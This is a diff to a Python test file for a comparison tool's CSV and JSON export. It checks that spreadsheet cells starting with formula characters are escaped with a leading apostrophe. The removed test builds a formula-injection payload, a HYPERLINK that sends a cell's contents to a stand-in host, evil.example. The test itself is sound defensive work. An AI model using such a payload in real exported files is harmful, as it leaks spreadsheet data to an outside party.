@@ -12,9 +12,10 @@ from PIL import Image
 
 from engines.contract import Reading
 from metrics.normalising import DEFAULT_RULES
-from playground.comparison import Comparison, EngineRun
-from playground.share.exporting import as_csv, as_json
+from playground.comparison import Comparison, EngineRun, Failure
+from playground.share.exporting import as_csv, as_json, spreadsheet_cell
 from playground.share.panel_picture import panel_picture
+from tests.formulas import FORMULAS
 
 
 def rows(comparison: Comparison) -> list[dict[str, str]]:
@@ -54,15 +55,24 @@ def test_without_a_reference_there_are_no_rates(comparison: Comparison) -> None:
     assert json.loads(as_json(bare, DEFAULT_RULES))["runs"][0]["cer"] is None
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
-def test_no_cell_is_a_formula(comparison: Comparison, start: str) -> None:
-    attack = f'{start}HYPERLINK("https://evil.example/?"&A1)'
+@pytest.mark.parametrize("attack", FORMULAS)
+def test_no_cell_is_a_formula(comparison: Comparison, attack: str) -> None:
     hostile = replace(
-        comparison, reference=attack, runs=(EngineRun("gpt-5", Reading(attack, model_reported=attack), 1.0),)
+        comparison,
+        reference=attack,
+        task=replace(comparison.task, conventions=attack),
+        runs=(
+            EngineRun("gpt-5", Reading(attack, model_reported=attack), 1.0),
+            EngineRun("gpt-4o", Failure("bug", attack), 1.0),
+        ),
     )
-    cells = [cell for row in rows(hostile) for cell in row.values() if "HYPERLINK" in cell]
-    assert len(cells) == 3
-    assert all(cell.startswith("'") for cell in cells)
+    cells = [cell for row in rows(hostile) for cell in row.values() if attack in cell]
+    assert cells == [f"'{attack}"] * 5
+
+
+def test_what_is_no_formula_stays_as_it_is() -> None:
+    for harmless in ("Dear Sir", " 3 + 4 = 7", '"Yes" = no', "a=b", "", "me@example.org", -1.5, None, True):
+        assert spreadsheet_cell(harmless) is harmless
 
 
 def test_the_picture_colours_what_is_wrong_and_only_that(comparison: Comparison) -> None:
